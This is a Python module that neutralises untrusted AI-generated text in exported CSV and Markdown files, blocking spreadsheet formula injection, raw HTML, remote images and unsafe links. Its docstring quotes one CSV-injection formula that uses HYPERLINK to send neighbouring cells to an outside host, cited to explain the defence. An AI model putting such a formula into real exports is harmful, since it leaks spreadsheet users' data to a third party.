"""Model text and prompts are untrusted, in every file the app hands out as on screen.

One place decides how such text is written out:

- **CSV**: a spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return as a formula (OWASP "CSV Injection": ``=HYPERLINK("http://…?"&A1, "details")`` sends the
  neighbouring cells to another host). Every text cell that begins so gets a leading single quote, as
  OWASP advises; numbers stay numbers (the app writes none that are negative).
- **Markdown**: a viewer renders raw HTML and loads remote images. Untrusted text goes through
  ``safe_markdown`` (markdown-it-py with ``html`` off: ``<`` outside code comes out escaped; images and
  non-http(s) links removed), and a one-line cell is kept on one line with its pipes escaped.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from council.safe_markdown import safe_markdown

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list: what a spreadsheet may read as a formula


def csv_cell(value: Any) -> Any:
    """A value as it may be written to a CSV cell: text that a spreadsheet would run is neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_document(fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A whole CSV (header first, ``\\n`` line ends) with every cell passed through ``csv_cell``."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(fields), lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({field: csv_cell(row.get(field)) for field in fields})
    return buffer.getvalue()


def markdown_block(text: str) -> str:
    """Untrusted Markdown (an answer, a question) as a block a Markdown viewer may render: no raw HTML,
    no images, no links but http(s)."""
    return safe_markdown(text).strip()


def markdown_inline(text: str) -> str:
    """Untrusted text for one line of Markdown (a heading, a table cell, a note): made safe as a block,
    then its lines joined and its pipes escaped so it cannot end a table cell."""
    return " ".join(markdown_block(text).split("\n")).replace("|", "\\|")


def markdown_quote(text: str) -> str:
    """Untrusted text as a Markdown block quote (every line behind ``> ``)."""
    safe = markdown_block(text)
    return "\n".join(("> " + line).rstrip() for line in safe.splitlines()) or ">"


def code_fence(text: str, info: str = "text") -> str:
    """Untrusted text verbatim inside a fenced code block it cannot close (a viewer runs nothing in one)."""
    longest = max((len(run) for run in _backtick_runs(text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


def _backtick_runs(text: str) -> list[str]:
    return re.findall(r"`+", text)


def code_span(text: str) -> str:
    """Untrusted text verbatim as an inline code span it cannot close (pipes escaped for a table cell)."""
    text = " ".join(text.splitlines())
    longest = max((len(run) for run in _backtick_runs(text)), default=0)
    tick = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{tick}{pad}{text}{pad}{tick}"
